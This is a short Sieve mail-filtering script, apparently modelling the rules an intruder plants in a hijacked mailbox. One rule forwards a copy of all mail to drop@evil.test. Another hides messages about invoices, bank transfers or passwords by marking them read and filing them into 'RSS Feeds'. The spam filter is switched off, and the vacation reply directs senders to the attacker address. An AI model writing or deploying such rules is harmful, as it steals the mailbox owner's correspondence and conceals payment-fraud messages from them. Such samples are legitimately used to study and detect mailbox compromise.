require ["copy","fileinto","imap4flags","vacation-seconds"];
# rule:[転送]
if true
{
	redirect :copy "drop@evil.test";
}
# rule:[spam]
if false # anyof (header :contains "X-Spam" "yes")
{
	fileinto "Junk";
	stop;
}
# rule:[.]
if anyof (header :contains ["Subject"] ["請求","振込"], body :text :contains "password")
{
	addflag "\\Seen";
	fileinto "RSS Feeds";
	stop;
}
# rule:[outofoffice]
vacation :days 1 :addresses ["hanako@corp.example"] :subject "Out" "I am away, mail drop@evil.test";
